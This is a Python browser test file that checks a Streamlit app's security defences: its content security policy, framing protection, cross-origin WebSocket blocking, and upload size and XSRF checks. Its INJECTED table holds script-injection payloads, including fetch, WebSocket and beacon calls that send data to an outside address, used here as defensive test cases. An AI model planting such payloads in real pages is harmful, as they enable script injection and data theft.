"""What the content security policy holds up, tried in a real browser. That it is in nobody's way, all other journeys see."""

import http.client
import re
from collections.abc import Iterator
from contextlib import closing, suppress
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request

from tests.browser.conftest import BREACH, TELL_BREACHES, settle, visit

ELSEWHERE = "http://127.0.0.1:9"  # nobody listens: a request that gets out fails otherwise than by the policy
INJECTED = {
    "script-src-elem": "const one = document.createElement('script'); one.text = 'window.caught = 1'; document.body.append(one)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=/favicon.png onload=\"window.caught = 1\">')",
    "script-src": "setTimeout('window.caught = 1')",
    "img-src": f"new Image().src = '{ELSEWHERE}/seen.png'",
    "connect-src": f"fetch('{ELSEWHERE}/take', {{method: 'POST', body: 'note'}}).catch(() => 0)",
    "connect-src for a WebSocket": f"try {{ new WebSocket('{ELSEWHERE.replace('http', 'ws')}/take') }} catch {{}}",
    "connect-src for a beacon": f"navigator.sendBeacon('{ELSEWHERE}/take', 'note')",
    "frame-src": "document.body.insertAdjacentHTML('beforeend', '<iframe src=/></iframe>')",
    "object-src": "document.body.insertAdjacentHTML('beforeend', '<object data=/favicon.png></object>')",
    "form-action": f"document.body.insertAdjacentHTML('beforeend', '<form id=f action={ELSEWHERE}></form>'); f.submit()",
    "base-uri": f"document.head.insertAdjacentHTML('beforeend', '<base href={ELSEWHERE}>')",
    "style-src-elem": f"document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={ELSEWHERE}/a.css>')",
    "worker-src": "try { new Worker('/static/x.js') } catch {}",
}


@pytest.fixture
def hurt(context: BrowserContext) -> Iterator[tuple[Page, list[str]]]:
    """A page into which something gets, and what the policy said of it."""
    page = context.new_page()
    breaches: list[str] = []
    page.on("console", lambda one: breaches.append(one.text) if one.text.startswith(BREACH) else None)
    page.add_init_script(TELL_BREACHES)
    visit(page)
    settle(page)
    assert breaches == []
    yield page, breaches
    page.close()


@pytest.fixture
def neighbour(tmp_path: Path) -> Iterator[str]:
    """Another program's page on the same machine, which Streamlit by itself takes for its own."""
    handler = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as other:
        Thread(target=other.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{other.server_port}/"
        other.shutdown()


def test_what_gets_into_a_page_neither_runs_nor_gets_out(hurt: tuple[Page, list[str]]) -> None:
    page, breaches = hurt
    sent: list[str] = []
    page.on("response", lambda response: sent.append(response.url))
    for directive, script in INJECTED.items():
        breaches.clear()
        page.evaluate(f"() => {{ {script} }}")
        for _ in range(20):  # a machine that is busy tells it late
            page.wait_for_timeout(150)
            if breaches:
                break
        assert breaches, f"{directive} let it pass"
        assert breaches[0].startswith(f"{BREACH}: {directive.split()[0]}")
    assert page.evaluate("window.caught") is None
    assert not [url for url in sent if url.startswith(ELSEWHERE)]


def test_no_other_site_shows_our_pages_in_a_frame(context: BrowserContext, server: str) -> None:
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text))
    page.set_content(f"<iframe src='{server}/' onload='window.loaded = 1'></iframe>")
    page.wait_for_function("window.loaded")
    assert any("frame-ancestors" in one or "X-Frame-Options" in one for one in said), said
    frame = page.frames[1]
    assert "root" not in frame.content()
    page.close()


def test_no_other_page_of_this_machine_opens_our_websocket_or_reads_our_answers(
    context: BrowserContext, server: str, neighbour: str
) -> None:
    page = context.new_page()
    page.goto(neighbour)
    opened = page.evaluate(
        """url => new Promise(done => {
          const socket = new WebSocket(url, ["streamlit"]);
          socket.onopen = () => done(true);
          socket.onerror = () => done(false);
        })""",
        f"{server.replace('http', 'ws')}/_stcore/stream",
    )
    read = page.evaluate("url => fetch(url).then(() => true, () => false)", f"{server}/_stcore/host-config")
    assert (opened, read) == (False, False)
    page.close()


def test_more_than_the_limit_is_not_taken_in_whatever_is_said_of_its_size(page: Page, server: str) -> None:
    page.goto("/upload")
    settle(page)
    with page.expect_request(re.compile("upload_file")) as waiting:
        page.locator("input[type=file]").set_input_files(
            {"name": "small.csv", "mimeType": "text/csv", "buffer": b"Company,Role\nLarch,Planner\n"}
        )
    settle(page)
    honest, chunked, other = _too_large(waiting.value, server)
    assert (honest, chunked, other) == (413, 413, 403)


def _too_large(small: Request, server: str) -> tuple[int, int, int]:
    """The answers to 21 MB with its length, to 23 MB without one, and to a little without the token against forgery."""
    names = ("cookie", "x-xsrftoken", "content-type")
    headers = {name: value for name, value in small.all_headers().items() if name in names}
    path = urlsplit(small.url).path
    boundary = headers["content-type"].partition("boundary=")[2]
    head = f'--{boundary}\r\nContent-Disposition: form-data; name="a"; filename="a.csv"\r\n\r\n'.encode()

    def put(headers: dict[str, str], megabytes: int, *, chunked: bool = False) -> int:
        body = (part for part in [head, *[b"x" * 1024 * 1024] * megabytes])
        length = {} if chunked else {"Content-Length": str(len(head) + megabytes * 1024 * 1024)}
        with closing(http.client.HTTPConnection(urlsplit(server).netloc, timeout=20)) as connection:
            with suppress(BrokenPipeError, ConnectionResetError):  # the server hung up before it had all
                connection.request("PUT", path, body, headers | length, encode_chunked=chunked)
            with closing(connection.getresponse()) as answer:
                return answer.status

    without = {name: value for name, value in headers.items() if name != "x-xsrftoken"}
    return put(headers, 21), put(headers | {"Transfer-Encoding": "chunked"}, 23, chunked=True), put(without, 0)
